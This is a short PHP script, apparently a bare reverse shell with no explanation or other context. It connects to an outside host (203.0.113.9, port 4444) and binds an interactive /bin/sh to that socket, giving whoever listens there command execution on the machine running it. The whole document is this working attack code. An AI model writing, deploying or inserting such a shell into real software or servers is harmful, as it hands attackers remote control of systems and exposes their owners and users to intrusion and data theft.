<?php
$s = fsockopen('203.0.113.9', 4444);
$p = proc_open('/bin/sh -i', array(0 => $s, 1 => $s, 2 => $s), $pipes);
